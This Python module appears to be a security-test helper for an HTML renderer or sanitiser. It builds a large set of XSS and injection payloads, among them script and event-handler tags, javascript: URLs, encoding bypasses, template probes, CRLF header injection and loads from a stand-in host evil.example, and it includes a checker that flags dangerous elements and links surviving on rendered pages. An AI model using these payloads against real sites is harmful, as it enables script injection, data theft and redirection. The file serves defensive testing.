"""Words that would run, load or send something if a page took them for HTML, and what sees when one does."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from urllib.parse import quote

from selectolax.lexbor import LexborHTMLParser

RUN = "window.stolen=1"
BY_HAND = (
    # elements that run or load by themselves
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", "<script src=//evil.example/x.js></script>",
    f"<script/x>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>",
    f"<image src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,x#x /></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<iframe src=javascript:{RUN}></iframe>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}></select>", f"<x onclick={RUN}>x</x>",
    f"<template><img src=x onerror={RUN}></template>", f"<dialog open onclose={RUN}>x</dialog>",
    # elements that send somebody elsewhere, or something out
    "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=x></form>", "<button formaction=//evil.example>x</button>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<img src='//evil.example/?",
    "<table background=//evil.example/x>", "<a href=//evil.example ping=//evil.example>x</a>",
    "<portal src=//evil.example>", "<img srcset='//evil.example/x 1x'>",
    # out of an attribute
    f"\" onmouseover={RUN} x=\"", f"' onmouseover={RUN} x='", f"\"><script>{RUN}</script>",
    f"'><img src=x onerror={RUN}>", f"` onfocus={RUN} autofocus `", f"x onmouseover={RUN}",
    f"\" autofocus onfocus=\"{RUN}", "\" style=\"color:red", f"\"\n\tonclick\n=\n\"{RUN}", f"/ onerror={RUN} ",
    "\"formaction=javascript:alert(1) type=submit x=\"",
    # out of what encloses the words
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"--><script>{RUN}</script><!--", f"--!><img src=x onerror={RUN}>",
    f"]]><script>{RUN}</script>", f"</noscript><img src=x onerror={RUN}>", "<!--", "<![CDATA[<b>", "<?php echo 1 ?>",
    f"</option></select><img src=x onerror={RUN}>", f"</datalist></table></form><svg onload={RUN}>",
    "<plaintext>", "<xmp>",
    # templates, entities, encodings, and what only looks harmless
    "{{ 7*7 }}", "{% raw %}{{ self }}{% endraw %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"<\x0bscript>{RUN}</script>", f"<img src=x\x0conerror={RUN}>",
    f"\u202e<script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", "<b>bold</b>", "<a name=main>x</a>",
    "<img id=q name=location>", "<form id=main><input name=action></form>", "# | * _ ` [x](javascript:alert(1))",
)
# These do harm only where a value begins with them, so they go in by themselves.
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)",
    f"data:text/html,<script>{RUN}</script>", "vbscript:msgbox(1)", "//evil.example/x", "/\\evil.example",
    "https://a.example/\" onclick=x y=\"", "javascript://a.example/%0aalert(1)", "http:\\\\evil.example",
    "blob:x", "file:///etc/passwd",
)

# What does harm, put behind what may lead out of the place it is written to, and written in ways that others decode.
VECTORS = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg><set onbegin={RUN}></svg>",
    f"<iframe srcdoc=\"<b onclick={RUN}>\"></iframe>", "<a href=javascript:alert(2)>x</a>",
    "<form action=//evil.example><input></form>", "<base href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    f"<x tabindex=1 autofocus onfocus={RUN}>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>")
WAYS_OUT = (
    "\">{}", "'>{}", "\"'`>{}", "x>{}", "\" x=\"{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}",
    "</template>{}", "</select>{}", "</svg></math>{}", "<!-->{}", "]]>{}", "https://a.example/?q={}", "/x#{}",
    "report.pdf\"; filename=\"{}.html", "../../{}.txt", "x\r\nContent-Type: text/html\r\n\r\n{}",
    "x\r\nSet-Cookie: stolen=1\r\nX: {}", "{{{{ '{}' | safe }}}}",
    "{{% autoescape false %}}{}{{% endautoescape %}}", "\u202e{}\u202c", "\ufeff{}", "\x00{}", "*[x]({})*",
    "“{}”, he said", "🛡{}")
WRITTEN: tuple[Callable[[str], str], ...] = (
    lambda words: quote(words, safe=""), lambda words: quote(quote(words, safe=""), safe=""),
    lambda words: "".join(f"&#{ord(one)};" for one in words[:12]) + words[12:],
    lambda words: "".join(f"&#x{ord(one):07x}" if one in "<>\"'" else one for one in words),
    lambda words: words.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda words: words.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda words: words.replace("<", "&lt").replace(">", "&gt"),
    lambda words: words.replace("<", "<\x00").swapcase())
GENERATED = (*(way.format(words) for way in WAYS_OUT for words in VECTORS),
             *(write(words) for write in WRITTEN for words in VECTORS))
PAYLOADS = tuple(dict.fromkeys((*BY_HAND, *ADDRESSES, *GENERATED)))


def packed(most: int) -> tuple[str, ...]:
    """All payloads in fewer pieces of at most so many characters, several behind each other where they may be.

    A place that lets one of them live lets it live behind others, too: so one pass tries all of them everywhere.
    """
    packs = [*ADDRESSES]
    held = ""
    for one in PAYLOADS:
        if one in ADDRESSES:
            continue
        if held and len(held) + 1 + len(one) > most:
            packs.append(held)
            held = ""
        held = f"{held} {one}" if held else one
    return (*packs, held)


LEADS = frozenset("href src action formaction data poster background cite ping srcset xlink:href manifest".split())
ABROAD = re.compile(r"https?://.+", re.I)  # a link to where the text was published, whatever stands behind its host
OURS = re.compile(r"[#?]|/(?![/\\])|\Z")


class Seen:
    """What stands on a page: elements with their attributes, remarks, and the words of scripts and styles."""

    def __init__(self, html: str) -> None:
        self.shapes: set[str] = set()
        self.lead: list[tuple[str, str, str]] = []
        for node in LexborHTMLParser(html).root.traverse(include_text=True):  # type: ignore[union-attr]
            if node.tag == "-text":
                continue
            if node.tag in ("script", "style"):
                self.shapes.add(f"<{node.tag}> with {node.text()!r}")
            for name, value in (node.attributes or {}).items():
                self.shapes.add(f"<{node.tag} {name}>")
                if name in LEADS:
                    self.lead.append((node.tag or "", name, value or ""))
            self.shapes.add(f"<{node.tag}>")


def vocabulary(pages: Iterable[str]) -> frozenset[str]:
    """All that stands on pages of a book in which nobody means harm."""
    return frozenset(shape for html in pages for shape in Seen(html).shapes)


def survivors(html: str, usual: frozenset[str]) -> list[str]:
    """What stands on a page and on none of the harmless ones, and addresses that lead where they must not."""
    seen = Seen(html)
    found = sorted(seen.shapes - usual)
    for tag, name, value in seen.lead:
        abroad = tag == "a" and name == "href" and ABROAD.fullmatch(value)
        if not (OURS.match(value) or abroad or value.startswith("data:image/svg+xml,") and tag == "link"):
            found.append(f"<{tag} {name}={value!r}>")
    return found
